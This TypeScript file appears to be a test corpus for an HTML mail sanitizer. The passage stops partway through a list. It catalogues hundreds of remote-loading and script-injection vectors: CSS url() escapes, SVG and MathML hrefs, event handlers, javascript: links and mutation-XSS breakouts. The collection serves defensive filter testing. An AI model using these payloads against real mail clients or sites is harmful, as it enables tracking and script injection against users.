/** One way in which a mail could make a request or run a script. */
export interface Vector {
  readonly name: string
  readonly html: string
}

/**
 * In the texts, `{url}` is a hostile http address, `{rest}` the same without its scheme (`//host/path`), `{secure}` with
 * https, and `{run}` an expression that reports to the page that a script has run. Every vector gets a host of its own.
 */
type Texts = Readonly<Record<string, string>>

const IMAGES: Texts = {
  'img src': '<img src="{url}">',
  'img src without quotes': '<img src={url}>',
  'img src, single quotes': "<img src='{url}'>",
  'img src, upper case': '<IMG SRC="{url}">',
  'img src, mixed case and slash': '<iMg/sRc="{url}"/>',
  'img src, protocol-relative': '<img src="{rest}">',
  'img src, https': '<img src="{secure}">',
  'img src, upper case scheme': '<img src="HTTP:{rest}">',
  'img src, backslashes': '<img src="\\\\{host}\\x">',
  'img src, mixed slashes': '<img src="/\\{host}/x">',
  'img src, scheme without slashes': '<img src="https:{host}/x">',
  'img src, one slash': '<img src="http:/{host}/x">',
  'img src, leading blanks': '<img src="   {url}">',
  'img src, leading control characters': '<img src="&#1;&#2;&#31;{url}">',
  'img src, tab inside the scheme': '<img src="ht&#9;tp:{rest}">',
  'img src, line break inside the scheme': '<img src="http:&#10;{rest}">',
  'img src, decimal entities': '<img src="&#104;&#116;&#116;&#112;&#58;{rest}">',
  'img src, hexadecimal entities': '<img src="&#x68;&#x74;&#x74;&#x70;&#x3a;{rest}">',
  'img src, entities without semicolon': '<img src="&#104&#116&#116&#112&#58{rest}">',
  'img src, named entities': '<img src="http&colon;&sol;&sol;{host}&sol;x">',
  'img src, user name before the host': '<img src="http://user:pass@{host}/x">',
  'img src, hidden': '<img src="{url}" width="1" height="1" style="display:none">',
  'img lazy': '<img loading="lazy" src="{url}">',
  'img eager, high priority': '<img loading="eager" fetchpriority="high" src="{url}">',
  'img crossorigin': '<img crossorigin="use-credentials" src="{url}">',
  'img twice the attribute': '<img src="{url}" src="data:,">',
  'img without end': '<img src="{url}"',
  'img in an unclosed tag': '<div <img src="{url}">',
  'img with a null byte': '<im\0g src="{url}"><img \0src="{url}">',
  'img, attribute broken by line feeds': '<img\n\n\tsrc\n=\n"{url}"\n>',
  'img, attribute after a slash': '<img////src="{url}"////>',
  'img srcset': '<img srcset="{url}">',
  'img srcset with density': '<img srcset="data:, 1x, {url} 2x, {url} 1x">',
  'img srcset with widths and sizes': '<img srcset="{url} 10w, {url} 2000w" sizes="100vw">',
  'img srcset, protocol-relative': '<img srcset="{rest} 1x">',
  'img srcset, commas in front': '<img srcset=", ,{url} 1x">',
  'img lowsrc and dynsrc': '<img lowsrc="{url}" dynsrc="{url}">',
  'img longdesc': '<img longdesc="{url}" src="data:,">',
  'img usemap elsewhere': '<img usemap="{url}#m" src="data:,">',
  'image, the old name': '<image src="{url}">',
  'picture source srcset': '<picture><source srcset="{url}"><img src="data:,"></picture>',
  'picture source with media': '<picture><source media="(min-width:1px)" srcset="{url}"><img></picture>',
  'picture source with type': '<picture><source type="image/png" srcset="{url} 1x"><img alt="x"></picture>',
  'source without picture': '<source src="{url}"><source srcset="{url}">',
  'input type image': '<input type="image" src="{url}">',
  'input type image, mixed case': '<INPUT TYPE=ImAgE SRC={url}>',
  'input type image in a form': '<form action="{url}"><input type="image" src="{url}"></form>',
  'data: SVG image that refers outside': `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='{url}'/%3E%3C/svg%3E">`,
}

const MEDIA: Texts = {
  'audio src': '<audio src="{url}" preload="auto" autoplay></audio>',
  'audio source': '<audio preload="auto"><source src="{url}"></audio>',
  'video src': '<video src="{url}" preload="auto" autoplay muted></video>',
  'video source': '<video preload="auto"><source src="{url}" type="video/mp4"></video>',
  'video poster': '<video poster="{url}"></video>',
  'video poster, protocol-relative': '<video poster="{rest}"></video>',
  'video track': '<video src="data:video/mp4," preload="auto"><track default src="{url}" kind="subtitles"></video>',
  'video with an image inside': '<video><img src="{url}"></video>',
  'track alone': '<track default src="{url}">',
  bgsound: '<bgsound src="{url}">',
  'embed src': '<embed src="{url}">',
  'embed as SVG': '<embed type="image/svg+xml" src="{url}">',
  'object data': '<object data="{url}"></object>',
  'object data with type': '<object type="image/png" data="{url}"></object>',
  'object with fallback': '<object data="data:text/x,"><img src="{url}"></object>',
  'object classid and codebase': '<object classid="{url}" codebase="{url}" archive="{url}"></object>',
  'object param': '<object><param name="movie" value="{url}"><param name="src" value="{url}"></object>',
  applet: '<applet code="{url}" codebase="{url}" archive="{url}"></applet>',
  'marquee with an image': '<marquee><img src="{url}"></marquee>',
}

const FRAMES: Texts = {
  'iframe src': '<iframe src="{url}"></iframe>',
  'iframe src, mixed case': '<IfRaMe SrC="{url}"></iFrAmE>',
  'iframe srcdoc with an image': '<iframe srcdoc="&lt;img src={url}&gt;"></iframe>',
  'iframe srcdoc with a script': '<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
  'iframe javascript:': '<iframe src="javascript:{run}"></iframe>',
  'iframe data: page': '<iframe src="data:text/html,<img src={url}>"></iframe>',
  'iframe sandbox with scripts':
    '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{run}</script>"></iframe>',
  'iframe without end': '<iframe src={url} <',
  'frameset and frame': '<frameset><frame src="{url}"></frameset>',
  'frameset with a handler': '<frameset onload="{run}"></frameset>',
  'frame alone': '<frame src="{url}">',
  'noframes in a frameset': '<frameset><noframes><img src="{url}"></noframes></frameset>',
  portal: '<portal src="{url}"></portal>',
  fencedframe: '<fencedframe src="{url}"></fencedframe>',
  webview: '<webview src="{url}"></webview>',
  'layer and ilayer': '<layer src="{url}"></layer><ilayer src="{url}"></ilayer>',
}

const LINKS: Texts = {
  'link stylesheet': '<link rel="stylesheet" href="{url}">',
  'link stylesheet, upper case': '<LINK REL=StyleSheet HREF={url}>',
  'link stylesheet in the head': '<html><head><link rel="stylesheet" href="{url}"></head><body>x</body></html>',
  'link alternate stylesheet': '<link rel="alternate stylesheet" title="x" href="{url}">',
  'link stylesheet for print': '<link rel="stylesheet" media="print" href="{url}">',
  'link icon': '<link rel="icon" href="{url}">',
  'link shortcut icon': '<link rel="shortcut icon" href="{url}">',
  'link apple-touch-icon': '<link rel="apple-touch-icon" href="{url}">',
  'link mask-icon': '<link rel="mask-icon" href="{url}" color="red">',
  'link prefetch': '<link rel="prefetch" href="{url}">',
  'link prerender': '<link rel="prerender" href="{url}">',
  'link preconnect': '<link rel="preconnect" href="{url}">',
  'link dns-prefetch': '<link rel="dns-prefetch" href="{url}">',
  'link preload image': '<link rel="preload" as="image" href="{url}">',
  'link preload with imagesrcset': '<link rel="preload" as="image" imagesrcset="{url} 1x">',
  'link preload font': '<link rel="preload" as="font" crossorigin href="{url}">',
  'link preload style': '<link rel="preload" as="style" href="{url}">',
  'link preload script': '<link rel="preload" as="script" href="{url}">',
  'link preload fetch': '<link rel="preload" as="fetch" crossorigin href="{url}">',
  'link modulepreload': '<link rel="modulepreload" href="{url}">',
  'link manifest': '<link rel="manifest" href="{url}">',
  'link import': '<link rel="import" href="{url}">',
  'link alternate feed': '<link rel="alternate" type="application/rss+xml" href="{url}">',
  'link compression-dictionary': '<link rel="compression-dictionary" href="{url}">',
  'link search, next, prev, canonical': '<link rel="search next prev canonical" href="{url}">',
  'link pingback': '<link rel="pingback" href="{url}">',
  'link expect': '<link rel="expect" blocking="render" href="{url}#x">',
  'link data: stylesheet that imports': '<link rel="stylesheet" href="data:text/css,@import url({url});">',
  'base for a relative image': '<base href="http://{host}/"><img src="x">',
  'base in the head for a relative style': '<head><base href="{url}"><link rel="stylesheet" href="x"></head>',
  'base target': '<base target="_top"><a href="{url}">x</a>',
  'a ping': '<a ping="{url}" href="#x" id="x">x</a>',
  'area ping': '<map name="m"><area ping="{url}" href="#x"></map>',
  'html manifest': '<html manifest="{url}"><body>x</body></html>',
  'head profile': '<html><head profile="{url}"></head><body>x</body></html>',
  'blockquote, q, ins and del cite':
    '<blockquote cite="{url}">x</blockquote><q cite="{url}">x</q><ins cite="{url}">x</ins><del cite="{url}">x</del>',
  'xml:base': '<div xml:base="http://{host}/"><img src="x"></div>',
  'processing instruction': '<?xml-stylesheet type="text/css" href="{url}"?><p>x</p>',
  'doctype with an outer entity': '<!DOCTYPE html SYSTEM "{url}" [<!ENTITY x SYSTEM "{url}">]><p>&x;</p>',
  'XML data island': '<xml src="{url}"></xml>',
}

const META_AND_FORMS: Texts = {
  'meta refresh': '<meta http-equiv="refresh" content="0;url={url}">',
  'meta refresh in the head': '<html><head><meta http-equiv="refresh" content="0; URL=\'{url}\'"></head></html>',
  'meta refresh, entities': '<meta http-equiv="&#114;efresh" content="0,{url}">',
  'meta refresh to data:': '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{run}</script>">',
  'meta refresh to javascript:': '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
  'meta policy with a report': `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri {url}"><img src="data:,">`,
  'meta link header': '<meta http-equiv="Link" content="<{url}>; rel=preload; as=image">',
  'meta set-cookie': '<meta http-equiv="Set-Cookie" content="a=b"><img src="{url}">',
  'meta x-dns-prefetch-control': '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="{url}">x</a>',
  'meta og:image': '<meta property="og:image" content="{url}"><meta name="msapplication-TileImage" content="{url}">',
  'form that a button submits by handler':
    '<form id="f" action="{url}"><button onfocus="this.form.submit()" autofocus>x</button></form>',
  'form, autofocus and formaction':
    '<form><button formaction="{url}" autofocus onfocus="this.click()">x</button></form>',
  'form javascript: action':
    '<form action="javascript:{run}"><input type="submit" autofocus onfocus="this.click()"></form>',
  'input formaction javascript:':
    '<form><input type="submit" formaction="javascript:{run}" autofocus onfocus="this.click()"></form>',
  'button outside its form':
    '<form id="q"></form><button form="q" formaction="{url}" autofocus onfocus="this.click()">x</button>',
  isindex: '<isindex type="image" src="{url}" action="javascript:{run}">',
  'keygen with a handler': '<keygen autofocus onfocus="{run}">',
  'clobbered form children':
    '<form onfocus="{run}" tabindex="1" autofocus><input name="attributes"><input name="nodeName"></form><img src="{url}">',
  'clobbered body': '<img name="body" src="{url}"><form name="body"><input name="firstChild"></form>',
}

const BACKGROUNDS: Texts = {
  'body background': '<body background="{url}">x</body>',
  'body background, upper case': '<BODY BACKGROUND={url}>x',
  'table background': '<table background="{url}"><tr><td>x</td></tr></table>',
  'td background': '<table><tr><td background="{url}">x</td></tr></table>',
  'th background': '<table><tr><th background="{rest}">x</th></tr></table>',
  'tr and tbody background': '<table><tbody background="{url}"><tr background="{url}"><td>x</td></tr></tbody></table>',
  'background that closes its own quote':
    '<table background="x&quot;);background:url({url})"><tr><td>x</td></tr></table>',
  'div background': '<div background="{url}">x</div>',
}

/** Declarations, each tried in a style attribute and in a style sheet. */
const DECLARATIONS: Texts = {
  'background url': 'background:url({url})',
  'background url in double quotes': 'background:url(&quot;{url}&quot;)',
  'background url in single quotes': "background:url('{url}')",
  'background-image': 'background-image:url({url})',
  'background-image, upper case': 'BACKGROUND-IMAGE:URL({url})',
  'several backgrounds': 'background:url(data:image/gif;base64,R0lGOD),url({url})',
  'gradient and image': 'background-image:linear-gradient(red,blue),url({url})',
  'protocol-relative': 'background:url({rest})',
  'escaped function name': 'background:\\75 \\72 \\6c({url})',
  'escaped function name, one letter': 'background:u\\72l({url})',
  'escaped function name, six digits': 'background:\\000075\\000072\\00006c({url})',
  'escaped property name': 'b\\61 ckground:url({url})',
  'escaped address': 'background:url(\\68\\74\\74\\70\\3a{rest})',
  'escaped line break in a string': 'background:url("ht\\\ntp:{rest}")',
  'comment before the bracket': 'background:url/**/({rest})',
  'comment inside the name': 'background:u/**/rl({url})',
  'comment inside the value': 'background:/*x*/url(/*x*/{url})',
  'blanks inside the brackets': 'background:url(  {url}  )',
  'bracket left open': 'background:url({url}',
  'string left open': 'background:url("{url}',
  'broken string before': "color:'\nx';background:url({url})",
  'semicolon in a string before': "font-family:';';background:url({url})",
  important: 'background:url({url})!important',
  'list-style': 'list-style:url({url});display:list-item',
  'list-style-image': 'list-style-image:url({url});display:list-item',
  cursor: 'cursor:url({url}),auto',
  content: 'content:url({url})',
  'border-image': 'border:1px solid;border-image:url({url}) 1',
  'border-image-source': 'border:1px solid;border-image-source:url({url})',
  '-webkit-border-image': 'border:1px solid;-webkit-border-image:url({url}) 1',
  mask: 'mask:url({url})',
  'mask-image': 'mask-image:url({url})',
  '-webkit-mask-image': '-webkit-mask-image:url({url})',
  '-webkit-mask-box-image': '-webkit-mask-box-image:url({url})',
  'mask-border': 'mask-border-source:url({url})',
  'shape-outside': 'float:left;shape-outside:url({url})',
  'clip-path': 'clip-path:url({url}#x)',
  filter: 'filter:url({url}#x)',
  'backdrop-filter': 'backdrop-filter:url({url}#x)',
  '-webkit-filter': '-webkit-filter:url({url}#x)',
  'image-set': 'background-image:image-set("{url}" 1x)',
  'image-set with url': 'background-image:image-set(url({url}) 1x)',
  '-webkit-image-set': 'background-image:-webkit-image-set(url({url}) 1x)',
  'cross-fade': 'background-image:cross-fade(url({url}),url({url}))',
  '-webkit-cross-fade': 'background-image:-webkit-cross-fade(url({url}),url({url}),50%)',
  image: 'background-image:image("{url}")',
  src: 'background-image:src("{url}")',
  'custom property': '--x:url({url});background:var(--x)',
  'fallback of a custom property': 'background:var(--none,url({url}))',
  'attr as an address': 'background-image:attr(title type(<url>),url({url}))',
  'if()': 'background:if(else:url({url}))',
  'offset-path': 'offset-path:url({url}#x)',
  'paint of SVG text': 'fill:url({url}#x);stroke:url({url}#x);marker:url({url}#x)',
  behavior: 'behavior:url({url})',
  '-moz-binding': '-moz-binding:url({url}#x)',
  expression: 'width:expression({run})',
  'layer-background-image': 'layer-background-image:url({url})',
  'javascript: as an image': 'background:url(javascript:{run})',
  animation: 'animation:leak 1s;animation-name:leak',
}

const SHEETS: Texts = {
  '@import string': '<style>@import "{url}";</style>',
  '@import url': '<style>@import url({url});</style>',
  '@import, upper case': "<style>@IMPORT '{url}';</style>",
  '@import, escaped': '<style>@\\69mport "{url}";</style>',
  '@import after a comment': '<style>/**/@import/**/"{url}"</style>',
  '@import with conditions': '<style>@import url({url}) layer(x) supports(display:block) screen;</style>',
  '@import after @charset': '<style>@charset "utf-8";@import "{url}";</style>',
  '@import in a media element': '<style media="all">@import "{url}";</style>',
  '@import inside an HTML comment of the sheet': '<style><!-- @import "{url}"; --></style>',
  '@font-face src': '<style>@font-face{font-family:x;src:url({url})}body{font-family:x}</style><p>x</p>',
  '@font-face with a format':
    '<style>@font-face{font-family:y;src:local(none),url({url}) format("woff2")}p{font:1em y}</style><p>x</p>',
  '@font-face by letter':
    '<style>@font-face{font-family:z;src:url({url});unicode-range:U+78}p{font:1em z}</style><p>x</p>',
  '@namespace': '<style>@namespace url({url});p{color:red}</style><p>x</p>',
  '@media': '<style>@media all{p{background:url({url})}}</style><p>x</p>',
  '@media print or screen, nested':
    '<style>@media screen{@media (min-width:1px){p{background:url({url})}}}</style><p>x</p>',
  '@supports': '<style>@supports (display:block){p{background:url({url})}}</style><p>x</p>',
  '@layer': '<style>@layer x{p{background:url({url})}}</style><p>x</p>',
  '@container':
    '<style>body{container-type:inline-size}@container (min-width:0){p{background:url({url})}}</style><p>x</p>',
  '@scope': '<style>@scope (body){p{background:url({url})}}</style><p>x</p>',
  '@starting-style': '<style>p{transition:all 1s}@starting-style{p{background:url({url})}}</style><p>x</p>',
  '@keyframes': '<style>@keyframes k{from,to{background:url({url})}}p{animation:k 9s}</style><p>x</p>',
  '@page': '<style>@page{background:url({url});@top-left{content:url({url})}}</style>',
  '@document': '<style>@-moz-document url-prefix(){p{background:url({url})}}</style><p>x</p>',
  '@counter-style':
    '<style>@counter-style c{system:cyclic;symbols:url({url});suffix:" "}ul{list-style:c}</style><ul><li>x</ul>',
  '@property':
    '<style>@property --i{syntax:"<image>";inherits:true;initial-value:url({url})}p{background:var(--i)}</style><p>x</p>',
  '@font-palette-values and @color-profile':
    '<style>@color-profile --c{src:url({url})}p{color:color(--c 1 0 0)}</style><p>x</p>',
  '@view-transition and @function': '<style>@function --f(){result:url({url})}p{background:--f()}</style><p>x</p>',
  'nested rule': '<style>body{color:red;& p{background:url({url})}}</style><p>x</p>',
  'nested rule, bare': '<style>div{p{background:url({url})}}</style><div><p>x</p></div>',
  '::before content': '<style>p::before{content:url({url})}</style><p>x</p>',
  '::after content with text': '<style>p::after{content:"x" url({url}) "y"}</style><p>x</p>',
  '::first-line and ::first-letter': '<style>p::first-line,p::first-letter{background:url({url})}</style><p>x</p>',
  '::marker': '<style>li::marker{content:url({url})}</style><ul><li>x</ul>',
  '::backdrop, ::selection, ::placeholder':
    '<style>::selection,::placeholder,::backdrop{background:url({url})}</style><input placeholder="x">',
  '::-webkit-scrollbar':
    '<style>div{width:9px;height:9px;overflow:scroll}div::-webkit-scrollbar{background:url({url})}</style><div>xxxxxxxx</div>',
  'attribute selector': '<style>a[href^="h"]{background:url({url})}</style><a href="http://x.test">x</a>',
  ':visited and :link': '<style>a:link,a:visited{background:url({url})}</style><a href="http://x.test">x</a>',
  ':root and html': '<style>:root{background:url({url})}html{background:url({url})}</style>',
  ':has and :is': '<style>body:has(p) :is(p){background:url({url})}</style><p>x</p>',
  'sheet in the body without end': '<p>x</p><style>p{background:url({url})}',
  'sheet of an odd type': '<style type="text/css" nonce="x">p{background:url({url})}</style><p>x</p>',
  'sheet in SVG': '<svg><style>@import "{url}";*{background:url({url})}</style></svg>',
  'sheet with an entity in SVG': '<svg><style>&#64;import "{url}";</style><text>x</text></svg>',
  'sheet split by a closing tag in a string': '<style>p{font-family:"</style><img src={url}>"}</style>',
  'sheet with a closing tag in an escape': '<style>p{font-family:"\\3c/style\\3e\\3cimg src={url}\\3e"}</style>',
  'selector with markup': '<style>p[title="</style><img src={url}>"]{color:red}</style>',
  'HTML comment around rules': '<style><!--\np{background:url({url})}\n--></style><p>x</p>',
  'conditional comment':
    '<!--[if IE]><img src="{url}"><![endif]--><!--[if !mso]><!--><img src="{url}"><!--<![endif]-->',
  'downlevel-revealed comment': '<![if !mso]><img src="{url}"><![endif]>',
  'mso markup':
    '<v:rect xmlns:v="urn:schemas-microsoft-com:vml" fill="true"><v:fill type="tile" src="{url}"/></v:rect>',
}

const SVG_AND_MATH: Texts = {
  'svg image href': '<svg><image href="{url}" width="9" height="9"/></svg>',
  'svg image xlink:href': '<svg><image xlink:href="{url}" width="9" height="9"/></svg>',
  'svg use': '<svg><use href="{url}#x"/></svg>',
  'svg use xlink:href': '<svg><use xlink:href="{url}#x"/></svg>',
  'svg use of data:': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>#x"/></svg>`,
  'svg feImage':
    '<svg><filter id="f"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  'svg feImage xlink:href':
    '<svg><filter id="f"><feImage xlink:href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  'svg filter attribute': '<svg><rect width="9" height="9" filter="url({url}#f)"/></svg>',
  'svg mask attribute': '<svg><rect width="9" height="9" mask="url({url}#m)"/></svg>',
  'svg clip-path attribute': '<svg><rect width="9" height="9" clip-path="url({url}#c)"/></svg>',
  'svg fill and stroke': '<svg><rect width="9" height="9" fill="url({url}#f)" stroke="url({url}#s)"/></svg>',
  'svg marker': '<svg><path d="M0 0L9 9" marker-start="url({url}#a)" marker-end="url({url}#b)"/></svg>',
  'svg cursor': '<svg><rect width="9" height="9" cursor="url({url}),auto"/></svg>',
  'svg pattern href': '<svg><pattern id="p" href="{url}#p"/><rect width="9" height="9" fill="url(#p)"/></svg>',
  'svg gradient href': '<svg><linearGradient id="g" href="{url}#g"/><rect width="9" height="9" fill="url(#g)"/></svg>',
  'svg textPath': '<svg><text><textPath href="{url}#t">x</textPath></text></svg>',
  'svg script href': '<svg><script href="{url}"></script></svg>',
  'svg script xlink:href': '<svg><script xlink:href="{url}"/></svg>',
  'svg script inline': '<svg><script>{run}</script></svg>',
  'svg script of data:': '<svg><script href="data:text/javascript,{run}"/></svg>',
  'svg foreignObject': '<svg><foreignObject><img src="{url}"></foreignObject></svg>',
  'svg foreignObject iframe': '<svg><foreignObject><iframe src="{url}"></iframe></foreignObject></svg>',
  'svg onload': '<svg onload="{run}">',
  'svg onload with slash': '<svg/onload={run}>',
  'svg animate href': '<svg><image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="{url}"/></svg>',
  'svg animate values':
    '<svg><image width="9" height="9"><animate attributeName="href" values="{url};{url}" dur="1s"/></image></svg>',
  'svg animate onbegin': '<svg><animate onbegin="{run}" attributeName="x" dur="1s"/></svg>',
  'svg animate of a link':
    '<svg><a><animate attributeName="href" values="javascript:{run}"/><text y="9">x</text></a></svg>',
  'svg audio and video': '<svg xmlns:xhtml="http://www.w3.org/1999/xhtml"><xhtml:img src="{url}"/></svg>',
  'svg image in an HTML context': '<svg></p><img src="{url}"></svg>',
  'svg discard, handler and listener':
    '<svg><discard onbegin="{run}"/><handler type="text/javascript">{run}</handler></svg>',
  'svg color-profile, font-face-uri, tref':
    '<svg><color-profile xlink:href="{url}"/><font-face><font-face-src><font-face-uri xlink:href="{url}"/></font-face-src></font-face><tref xlink:href="{url}#x"/></svg>',
  'math href': '<math href="javascript:{run}"><mtext>x</mtext></math>',
  'math xlink:href': '<math xlink:href="{url}"><mi>x</mi></math>',
  'math maction': '<math><maction actiontype="statusline#{url}" xlink:href="javascript:{run}">x</maction></math>',
  'math mglyph src': '<math><mi><mglyph src="{url}"/></mi></math>',
  'math annotation-xml with HTML':
    '<math><annotation-xml encoding="text/html"><img src="{url}"></annotation-xml></math>',
  'math mtext with HTML': '<math><mtext><img src="{url}"></mtext></math>',
  'math background': '<math style="background:url({url})"><mi mathbackground="url({url})">x</mi></math>',
}

const SCRIPTS: Texts = {
  'script inline': '<script>{run}</script>',
  'script src': '<script src="{url}"></script>',
  'script src, protocol-relative': '<script src={rest}></script>',
  'script module': '<script type="module">{run}</script>',
  'script module src': '<script type="module" src="{url}"></script>',
  'script import of an address': '<script type="module">import "{url}"</script>',
  'script of data:': '<script src="data:text/javascript,{run}"></script>',
  'script, odd case and space': '<ScRiPt >{run}</sCrIpT >',
  'script, slash in the tag': '<script/x>{run}</script/x>',
  'script inside script': '<scr<script>ipt>{run}</scr</script>ipt>',
  'script without end': '<script src="{url}">',
  'script after a closed title': '<title></title><script>{run}</script>',
  'script in a template': '<template><script>{run}</script><img src="{url}"></template>',
  'script in a declarative shadow root':
    '<div><template shadowrootmode="open"><script>{run}</script><img src="{url}"></template></div>',
  'script in an old shadow root': '<div><template shadowroot="open"><img src="{url}"></template></div>',
  'script with an import map':
    '<script type="importmap">{"imports":{"x":"{url}"}}</script><script type="module">import "x"</script>',
  'script with speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{url}"]}],"prerender":[{"source":"list","urls":["{url}"]}]}</script>',
  'script VBScript': '<script language="vbscript" src="{url}"></script>',
  'script for and event': '<script for="window" event="onload">{run}</script>',
  'img onerror': '<img src="x:" onerror="{run}">',
  'img onerror without quotes': '<img src=x: onerror={run}>',
  'img onload': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{run}" onerror="{run}">',
  'img onerror, entity name': '<img src="x:" onerror="&#116;op.ran.push({id})">',
  'img onerror, form feed before': '<img src="x:"\fonerror="{run}">',
  'img onerror, quote before': '<img src="x:"onerror="{run}">',
  'img onerror, grave accents': '<img src=`x: onerror={run}>',
  'img onloadstart, onloadend': '<img src="x:" onloadstart="{run}" onloadend="{run}">',
  'body onload': '<body onload="{run}">x</body>',
  'body onpageshow': '<body onpageshow="{run}">x</body>',
  'body onresize, onhashchange, onscroll':
    '<body onresize="{run}" onhashchange="{run}" onscroll="{run}" onfocus="{run}">x</body>',
  'body onunload and onbeforeunload': '<body onunload="{run}" onbeforeunload="{run}">x</body>',
  'autofocus and onfocus': '<input autofocus onfocus="{run}">',
  'autofocus on a div': '<div tabindex="0" autofocus onfocus="{run}">x</div>',
  'select and textarea with autofocus':
    '<select autofocus onfocus="{run}"></select><textarea autofocus onfocus="{run}"></textarea>',
  'contenteditable with autofocus': '<p contenteditable autofocus onfocusin="{run}">x</p>',
  'details ontoggle': '<details open ontoggle="{run}">x</details>',
  'dialog open with a handler': '<dialog open onfocus="{run}" oncancel="{run}"><img src="{url}"></dialog>',
  'popover with onbeforetoggle':
    '<div popover id="p" onbeforetoggle="{run}">x</div><button popovertarget="p" autofocus onfocus="this.click()">x</button>',
  'command and commandfor':
    '<dialog id="d" oncommand="{run}"></dialog><button commandfor="d" command="show-modal" autofocus onfocus="this.click()">x</button>',
  'animation and transition events':
    '<style>@keyframes a{to{color:red}}p{animation:a 1ms}</style><p onanimationstart="{run}" onanimationend="{run}" ontransitionend="{run}">x</p>',
  'audio and video errors':
    '<audio src="x:" onerror="{run}"></audio><video onerror="{run}"><source src="x:" onerror="{run}"></video>',
  'object and embed errors': '<object data="x:" onerror="{run}"></object><embed src="x:" onerror="{run}">',
  'marquee onstart': '<marquee onstart="{run}" loop="1">x</marquee>',
  'content-visibility event': '<p style="content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</p>',
  'scroll events':
    '<div style="overflow:auto;height:1px" onscroll="{run}" onscrollend="{run}" onscrollsnapchange="{run}"><p style="height:99px">x</p><input autofocus></div>',
  'link onload and onerror': '<link rel="stylesheet" href="data:text/css," onload="{run}" onerror="{run}">',
  'style onload': '<style onload="{run}">p{}</style>',
  'script onerror': '<script src="x:" onerror="{run}"></script>',
  'iframe onload': '<iframe onload="{run}"></iframe>',
  'xss attribute': '<xss id="x" tabindex="1" autofocus onfocus="{run}">x</xss>',
  'custom element with is': '<p is="x-y" onfocus="{run}" tabindex="0" autofocus>x</p>',
  'unknown attribute namespace':
    '<p xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="{url}">x</p>',
}

/** The test clicks everything in the guarded mail, so that an address that only acts when chosen is tried too. */
const ADDRESSES: Texts = {
  'a javascript:': '<a href="javascript:{run}">x</a>',
  'a javascript:, upper case': '<a href="JaVaScRiPt:{run}">x</a>',
  'a javascript:, tab': '<a href="java&#9;script:{run}">x</a>',
  'a javascript:, line feed': '<a href="java&#10;script:{run}">x</a>',
  'a javascript:, carriage return': '<a href="java&#13;script:{run}">x</a>',
  'a javascript:, blanks in front': '<a href=" &#1; javascript:{run}">x</a>',
  'a javascript:, entities': '<a href="&#106;avascript&colon;{run}">x</a>',
  'a javascript:, long entities': '<a href="&#0000106avascript:{run}">x</a>',
  'a javascript:, comment as host': '<a href="javascript://{host}/%0a{run}">x</a>',
  'a javascript: in a target': '<a target="_top" href="javascript:{run}">x</a>',
  'a data: page': '<a href="data:text/html,<script>{run}</script>">x</a>',
  'a data: page in base64': '<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPzwvc2NyaXB0Pg==">x</a>',
  'a vbscript:': '<a href="vbscript:{run}">x</a>',
  'a blob:': '<a href="blob:http://{host}/x">x</a>',
  'a file:': '<a href="file://{host}/x">x</a>',
  'a view-source:': '<a href="view-source:{url}">x</a>',
  'a relative': '<a href="/api/logout">x</a>',
  'a download': '<a download href="{url}">x</a>',
  'a with a target of ours': '<a target="_self" rel="opener" href="{url}">x</a>',
  'a protocol-relative': '<a href="{rest}">x</a>',
  'area javascript:':
    '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="50" height="50"><map name="m"><area shape="default" href="javascript:{run}"></map>',
  'svg a': '<svg width="50" height="50"><a href="javascript:{run}"><rect width="50" height="50"/></a></svg>',
  'svg a xlink:href':
    '<svg width="50" height="50"><a xlink:href="javascript:{run}"><rect width="50" height="50"/></a></svg>',
  'math with a link': '<math><mrow href="javascript:{run}"><mtext>x</mtext></mrow></math>',
  'label for a hidden submit':
    '<form action="{url}"><input type="submit" id="s" hidden><label for="s">x</label></form>',
  'form with a submit button': '<form action="{url}" method="post"><button>x</button></form>',
  'form with formaction': '<form><button formaction="{url}" formtarget="_top">x</button></form>',
  'a onclick': '<a href="#" onclick="{run}">x</a>',
  'div onclick and onpointerdown': '<div onclick="{run}" onpointerdown="{run}" onmouseover="{run}">x</div>',
}

const MUTATIONS: Texts = {
  'noscript breaks out of an attribute':
    '<noscript><p title="</noscript><img src={url} onerror={run}>"></p></noscript>',
  'noscript with an image': '<noscript><img src="{url}"></noscript>',
  'noembed breaks out': '<noembed><p title="</noembed><img src={url} onerror={run}>"></noembed>',
  'noframes breaks out': '<noframes><p title="</noframes><img src={url} onerror={run}>"></noframes>',
  'xmp breaks out': '<xmp><p title="</xmp><img src={url} onerror={run}>"></xmp>',
  'plaintext at the end': '<plaintext><img src="{url}">',
  'title breaks out': '<svg><title><p title="</title><img src={url} onerror={run}>"></svg>',
  'textarea breaks out': '<textarea><p title="</textarea><img src={url} onerror={run}>"></textarea>',
  'iframe text breaks out': '<iframe><p title="</iframe><img src={url} onerror={run}>"></iframe>',
  'style breaks out in math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={url} onerror={run}&gt;">',
  'style breaks out in svg': '<svg></p><style><a id="</style><img src={url} onerror={run}>">',
  'nested form moves math': '<form><math><mtext></form><form><mglyph><style></math><img src={url} onerror={run}>',
  'mglyph and malignmark':
    '<math><mtext><mglyph><malignmark><style><img src={url}></style></malignmark></mglyph></mtext></math>',
  'table fosters an image': '<table><img src="{url}"><tr><td>x</td></tr></table>',
  'table fosters a style': '<table><style>@import "{url}";</style><tr><td>x</td></tr></table>',
  'select swallows a tag': '<select><style><option></style><img src="{url}"></select>',
  'select with a customized button':
    '<select><button><selectedcontent></selectedcontent></button><option><img src="{url}"></select>',
